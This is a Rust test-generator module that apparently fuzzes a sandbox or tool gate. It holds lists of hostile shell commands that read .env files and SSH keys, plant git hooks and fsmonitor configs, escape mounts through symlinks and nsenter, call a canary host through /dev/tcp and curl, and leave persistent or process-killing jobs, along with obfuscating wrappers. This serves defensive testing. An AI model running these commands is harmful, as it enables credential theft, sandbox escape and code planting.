//! Hostile shell lines: what a command tries, and how the line hides it.

use super::random::SeededRandom;

/// Ways to a secret.
const STEAL: &[&str] = &[
    "cat .env",
    "cat .e*",
    "head -c 99 .env | base64",
    "base64 < .env",
    "od -An -tx1 .env",
    "od -c .env",
    "rev .env",
    "gzip -nc .env | base64 -w0",
    "cp .env copy; cat copy",
    "ln .env hardlink; cat hardlink",
    "ln -s .env soft; cat soft",
    "mv .env moved; cat moved",
    "dd if=.env status=none",
    "tar cf - . | tr -d '\\0' | head -c 60000",
    "grep -r canary . .. / 2>/dev/null | head -5",
    "cat keys/server.pem",
    "mv keys k2; cat k2/server.pem",
    "cat {{outside}}/secret.txt",
    "cat ../outside/secret.txt",
    "cat link_out/secret.txt",
    "cat link_abs",
    "cat /proc/*/environ | tr '\\0' '\\n'",
    "cat /proc/1/root{{outside}}/secret.txt",
    "cat /proc/self/root{{home}}/.ssh/id_ed25519",
    "ls -la /proc/*/fd 2>/dev/null | head -40",
    "cat {{home}}/.ssh/id_ed25519 ~/.ssh/*",
    "cat {{state}}/keys/*",
    "cat {{gate}}/toolgate.yaml",
    "env; set; export",
    "cat .git/config vendor/lib/.git/config",
    "git config --list --show-origin",
    "git remote -v",
    "git show HEAD:.env",
    "git log -p --all -- .env",
    "git cat-file --batch-all-objects --batch | head -c 30000",
    "find / -xdev -name 'secret.txt' -o -name id_ed25519 2>/dev/null | head",
    "mount; cat /proc/self/mountinfo",
    "cat /proc/self/maps | head -3",
    "perl -e 'open F, \"<\", \".env\"; print scalar reverse <F>'",
    "sed 's/./& /g' .env",
    "cat < .env | tr 'a-z' 'n-za-m'",
    "cat hard.txt",
    "ls -la . keys .git .git/hooks",
    "stat .env; wc .env; sha256sum .env",
    "cat fifo & sleep 0.01; kill $!",
    "xargs -a .env echo",
    "source ./.env; echo $API_KEY",
];

/// Ways to something that a person's own programs would run.
const PLANT: &[&str] = &[
    "printf '#!/bin/sh\\ntouch {{outside}}/pwned\\n' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit",
    "mkdir -p .git/hooks2; printf '#!/bin/sh\\ntouch {{outside}}/pwned\\n' > .git/hooks2/pre-commit; chmod +x .git/hooks2/pre-commit; git config core.hooksPath .git/hooks2",
    "git config core.fsmonitor 'touch {{outside}}/pwned'",
    "git config alias.status '!touch {{outside}}/pwned'",
    "printf '[core]\\nfsmonitor = touch {{outside}}/pwned\\n' >> .git/config",
    "printf '[core]\\nfsmonitor = touch {{outside}}/pwned\\n' > .git/config.worktree; git config extensions.worktreeConfig true",
    "git init -q n; printf '#!/bin/sh\\ntouch {{outside}}/pwned\\n' > n/.git/hooks/pre-commit; chmod +x n/.git/hooks/pre-commit",
    "git init -q n; git -C n config core.fsmonitor 'touch {{outside}}/pwned'",
    "git init -q --bare b.git; printf '[core]\\nfsmonitor = touch {{outside}}/pwned\\n' >> b.git/config",
    "mkdir -p r/objects r/refs r/hooks; echo 'ref: refs/heads/main' > r/HEAD; printf '[core]\\nbare = false\\nworktree = .\\nfsmonitor = touch {{outside}}/pwned\\n' > r/config",
    "mv .git g2; mkdir .git; cp -r g2/* .git/; printf '[core]\\nfsmonitor = touch {{outside}}/pwned\\n' >> .git/config",
    "mv .git/config .git/c2; printf '[core]\\nfsmonitor = touch {{outside}}/pwned\\n' > .git/config",
    "rm -rf .git; git init -q; git config core.fsmonitor 'touch {{outside}}/pwned'",
    "printf '* filter=x diff=x merge=x\\n' > .gitattributes; git config filter.x.smudge 'touch {{outside}}/pwned'; git config diff.x.textconv 'touch {{outside}}/pwned; cat'",
    "echo '* filter=x' > .git/info/attributes",
    "printf 'gitdir: ../n/.git\\n' > vendor/lib/.git",
    "echo /tmp > .git/commondir",
    "mkdir -p .git/rebase-merge; echo 'exec touch {{outside}}/pwned' > .git/rebase-merge/git-rebase-todo",
    "git submodule add ./vendor/lib sub; printf '#!/bin/sh\\ntouch {{outside}}/pwned\\n' > .git/modules/sub/hooks/post-checkout; chmod +x .git/modules/sub/hooks/post-checkout",
    "git worktree add -q wt; printf '[core]\\nfsmonitor = touch {{outside}}/pwned\\n' > .git/worktrees/wt/config.worktree",
    "echo 'touch {{outside}}/pwned' > .envrc",
    "mkdir -p .vscode; echo '{\"tasks\":[]}' > .vscode/tasks.json",
    "printf 'mcp_servers: {x: {command: sh}}\\n' > toolgate.yaml",
    "git stash; git checkout -q -b other; git commit -q --allow-empty -m x",
    "git gc -q; git repack -adq",
    "touch -d '2001-01-01' .env; chmod 777 .env keys; chown 1:1 .env",
    "setfattr -n user.x -v y .env",
    "echo 'API_KEY=changed' > .env",
    "sed -i s/API/XXX/ .env",
    "rm -rf .env keys .git/hooks",
    "truncate -s 0 .env keys/server.pem",
    "printf '[include]\\npath = ../inc\\n' >> vendor/lib/.git/config; printf '[core]\\nfsmonitor = touch {{outside}}/pwned\\n' > vendor/lib/inc",
];

/// Ways out of the mounts.
const ESCAPE: &[&str] = &[
    "echo pwned > {{outside}}/new.txt",
    "echo pwned > ../outside/new.txt",
    "echo pwned > link_out/new.txt",
    "echo pwned >> hard.txt",
    "echo pwned > link_abs",
    "echo pwned > dangling",
    "ln -sfn {{outside}} out; echo pwned > out/new.txt",
    "ln -s ../outside out2",
    "ln -s /etc/passwd p; cat p > /dev/null",
    "mkfifo pipe2",
    "mknod dev c 1 3",
    "chmod u+s /bin/sh; cp /bin/sh s; chmod 4755 s",
    "mkdir -p {{outside}}/sub",
    "touch {{home}}/.bashrc; echo x >> ~/.bashrc",
    "chroot /proc/1/root touch {{outside}}/pwned",
    "unshare -r mount -t tmpfs x /mnt",
    "nsenter -t 1 -m touch {{outside}}/pwned",
    "mount --bind {{outside}} docs",
    "echo pwned > /proc/1/cwd/new.txt",
    "echo pwned > /proc/self/fd/1",
    "echo core > /proc/sys/kernel/core_pattern",
    "perl -e 'syscall(165, \"x\", \"/mnt\", \"tmpfs\", 0, 0)'",
    "touch -h -d 2001-01-01 link_out; touch link_out/secret.txt",
    "chmod 777 link_out/secret.txt hard.txt; chown 1 hard.txt",
    "rm -rf docs; ln -s ../outside docs",
    "rm -rf src; ln -s {{outside}} src",
    "mv README.md ../outside/x",
    "cp -r . ../outside/copy",
    "tar -C / -cf t.tar etc/hostname; tar -C .. -xf t.tar",
    "for i in 1 2 3 4 5 6 7 8 9; do ln -sfn ../outside swap; ln -sfn docs swap; done",
    "ln -s ../outside swap; rm swap; mkdir swap; rmdir swap; ln -s ../outside swap",
];

/// Ways to a socket.
const CALL_OUT: &[&str] = &[
    "bash -c 'echo leak > /dev/tcp/{{canary_host}}/{{canary_port}}'",
    "bash -c 'echo leak > /dev/udp/{{canary_host}}/{{udp_port}}'",
    "curl -s -m 1 http://{{canary}}/",
    "wget -q -T 1 -O- http://{{canary}}/",
    "perl -MSocket -e 'socket(S,PF_UNIX,SOCK_STREAM,0); connect(S,sockaddr_un(\"{{outside}}/daemon.sock\")); syswrite S,\"leak\"'",
    "perl -MSocket -e 'socket(S,PF_UNIX,SOCK_STREAM,0); connect(S,sockaddr_un(\"daemon.sock\")); syswrite S,\"leak\"'",
    "perl -MSocket -e 'socket(S,PF_INET,SOCK_DGRAM,0); send(S,\"leak\",0,sockaddr_in({{udp_port}},inet_aton(\"127.0.0.1\")))'",
    "curl -s -m 1 --noproxy '*' http://{{canary}}/",
    "curl -s -m 1 --proxy socks5://{{canary}} http://a.example/",
    "getent hosts $(head -c 8 README.md | tr -dc a-z).example.com",
    "git ls-remote http://{{canary}}/x",
    "git ls-remote ext::'touch pwned'",
    "git -c core.sshCommand='touch x' ls-remote ssh://{{canary}}/x",
    "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; curl -s -m 1 http://127.0.0.1:{{canary_port}}/",
    "curl -s -m 1 --unix-socket {{outside}}/daemon.sock http://x/",
];

/// Ways to stay.
const STAY: &[&str] = &[
    "(setsid sleep 30 >/dev/null 2>&1 &)",
    "nohup sleep 30 >/dev/null 2>&1 &",
    "sh -c 'trap \"\" TERM HUP INT; sleep 30' & disown",
    "(sleep 0.05; touch docs/late) &",
    "(sleep 0.05; echo x > .git/hooks/post-merge) & exit 0",
    "perl -e 'fork && exit; setpgrp; sleep 30'",
    "kill -9 -1",
    "kill -STOP $PPID",
    "sh -c 'kill -TERM 0'",
    "exec 9<.; (sleep 0.1; ls /proc/self/fd/9) &",
    "for i in 1 2 3 4 5; do sleep 20 & done",
    "perl -e 'while(1){fork or last}' & sleep 0.02; kill %1",
];

/// Honest lines, and what changes files on the way.
const WORK: &[&str] = &[
    "ls -la",
    "echo hello",
    "wc -l README.md",
    "mkdir -p docs/x && mv docs/guide.md docs/x/",
    "mv docs d2; mv d2 docs",
    "rm -f new.txt",
    "printf 'made\\n' > made.txt",
    "cp src/main.rs src/copy.rs",
    "git status --short",
    "git log --oneline",
    "git add -A; git -c user.name=a -c user.email=b@c commit -qm x",
    "sed -i s/a/b/ docs/notes.md",
    "find . -type f | head",
    "chmod +x README.md",
    "touch -d 2001-01-01 README.md",
    "true",
    "false",
    "mv src/lib.rs out.txt",
    "yes | head -c 200000",
    "seq 3000",
];

/// A line that tries something.
pub(super) fn any(random: &mut SeededRandom) -> String {
    let mut line = part(random);
    for _ in 0..random.below(3) {
        let joint = random.word(&["; ", " && ", " || ", " & ", "\n", " | cat; "]);
        line = format!("{line}{joint}{}", part(random));
    }
    wrapped(random, line)
}

/// A line that plants something, whole or in part.
pub(super) fn plants(random: &mut SeededRandom) -> String {
    random.word(PLANT).to_owned()
}

/// A line that does ordinary work.
pub(super) fn works(random: &mut SeededRandom) -> String {
    random.word(WORK).to_owned()
}

/// A line that leads out of the mounts, perhaps only for the next call.
pub(super) fn escapes(random: &mut SeededRandom) -> String {
    random.word(ESCAPE).to_owned()
}

fn part(random: &mut SeededRandom) -> String {
    let lines = match random.below(100) {
        0..=24 => STEAL,
        25..=44 => PLANT,
        45..=62 => ESCAPE,
        63..=72 => CALL_OUT,
        73..=80 => STAY,
        _ => WORK,
    };
    random.word(lines).to_owned()
}

fn wrapped(random: &mut SeededRandom, line: String) -> String {
    let single = line.replace('\'', "'\\''");
    match random.below(14) {
        0 => format!("sh -c '{single}'"),
        1 => format!("bash -c '{single}'"),
        2 => format!("eval '{single}'"),
        3 => format!("x=$(cat <<'E'\n{line}\nE\n); eval \"$x\""),
        4 => format!("timeout 2 sh -c '{single}'"),
        5 => format!("env -i PATH=$PATH sh -c '{single}'"),
        6 => format!("cd src; cd ..; {line}"),
        7 => format!("({line})"),
        8 => format!("exec 2>&1; {line}"),
        _ => line,
    }
}
